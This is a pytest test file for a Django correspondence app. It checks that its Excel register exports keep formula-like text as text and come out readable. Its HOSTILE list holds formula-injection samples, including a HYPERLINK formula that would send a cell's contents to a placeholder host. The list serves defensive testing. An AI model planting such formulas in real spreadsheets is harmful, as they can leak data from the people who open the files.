"""Excel exports: text that a spreadsheet would run as a formula stays text, and every export
opens readable (dd.mm.yyyy dates, bold frozen header, autofilter, column widths)."""

import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from argo_docs.spreadsheets import xlsx_bytes
from correspondence.testing import build_world, register

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"Нажмите")',
    "+7 (812) 555-12-12",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_formula_like_text_is_written_as_text():
    """GIVEN cells starting with =, +, -, @, a tab or a carriage return WHEN exported
    THEN each reads back as the same text, kept text by Excel's quote prefix, and the file
    holds no formula at all; ordinary numbers and text are untouched."""
    content = xlsx_bytes(title="Проба", header=["Текст", "Число"], rows=[[v, 42] for v in HOSTILE])
    sheet = _sheet(content)
    for row, value in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=1)
        # XML reads a bare carriage return back as a line feed; the text is otherwise intact
        assert cell.value == value.replace("\r", "\n")
        assert cell.data_type == "s" and cell.quotePrefix
        assert sheet.cell(row=row, column=2).value == 42
    assert "<f>" not in _sheet_xml(content)
    assert not sheet.cell(row=1, column=1).quotePrefix


def test_dates_headers_filters_and_widths():
    """GIVEN a date, an aware date-time and long text WHEN exported THEN dates read
    dd.mm.yyyy (and hh:mm) in local time, the header is bold and frozen with an autofilter over
    the data, and columns are wide enough for their content."""
    moment = timezone.make_aware(dt.datetime(2026, 3, 5, 9, 30))
    long_text = "О проверке соблюдения требований пожарной безопасности в здании"
    content = xlsx_bytes(
        title="Журнал",
        header=["Дата", "Создано", "Тема"],
        rows=[[dt.date(2026, 3, 5), moment, long_text]],
    )
    sheet = _sheet(content)
    assert sheet["A2"].number_format == "DD.MM.YYYY"
    assert sheet["B2"].number_format == "DD.MM.YYYY HH:MM"
    assert sheet["B2"].value == dt.datetime(2026, 3, 5, 9, 30)  # Moscow time, no tz
    assert all(sheet.cell(row=1, column=c).font.b for c in (1, 2, 3))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C2"
    widths = {k: v.width for k, v in sheet.column_dimensions.items()}
    assert widths["A"] >= len("05.03.2026") and widths["B"] >= len("05.03.2026 09:30")
    assert widths["C"] >= len(long_text) // 2 and widths["C"] <= 60


@pytest.mark.django_db
def test_the_incoming_register_export_is_safe_and_readable(client, org, settings, tmp_path):
    """GIVEN an incoming letter whose subject is a HYPERLINK formula WHEN the registrar exports
    the register THEN the subject is text, the dates are formatted, the header frozen."""
    settings.MEDIA_ROOT = tmp_path / "media"
    world = build_world(org)
    register(
        org["office"], entity=world["entity"], counterparty=world["tenant"], subject=HOSTILE[0]
    )
    client.force_login(org["office"])
    response = client.get(reverse("correspondence:incoming-export"))
    assert response.status_code == 200
    content = response.content
    sheet = _sheet(content)
    header = [c.value for c in sheet[1]]
    subject = sheet.cell(row=2, column=header.index("Тема") + 1)
    assert subject.value == HOSTILE[0] and subject.data_type == "s"
    assert "<f>" not in _sheet_xml(content)
    registered = sheet.cell(row=2, column=header.index("Дата регистрации") + 1)
    assert registered.number_format == "DD.MM.YYYY HH:MM"
    assert sheet.cell(row=2, column=header.index("Контрольный срок") + 1).number_format == (
        "DD.MM.YYYY"
    )
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")


@pytest.mark.django_db
def test_the_outgoing_register_export_is_safe_and_readable(client, org, settings, tmp_path):
    """GIVEN an outgoing letter whose subject starts with @ WHEN its author exports the
    outgoing register THEN the subject is text and the dates are formatted."""
    from correspondence.services.outgoing import outgoing_create

    settings.MEDIA_ROOT = tmp_path / "media"
    world = build_world(org)
    outgoing_create(
        user=org["seller"],
        legal_entity=world["entity"],
        counterparty=world["tenant"],
        subject="@SUM(A1:A2) о продлении аренды",
        text="Текст письма",
        executor=org["seller"],
        document_date=timezone.localdate(),
        control_date=timezone.localdate() + dt.timedelta(days=10),
    )
    client.force_login(org["seller"])
    response = client.get(reverse("correspondence:outgoing-export"))
    assert response.status_code == 200
    sheet = _sheet(response.content)
    header = [c.value for c in sheet[1]]
    subject = sheet.cell(row=2, column=header.index("Тема") + 1)
    assert subject.value.startswith("@SUM") and subject.data_type == "s" and subject.quotePrefix
    assert sheet.cell(row=2, column=header.index("Создано") + 1).number_format == (
        "DD.MM.YYYY HH:MM"
    )
    assert sheet.freeze_panes == "A2"
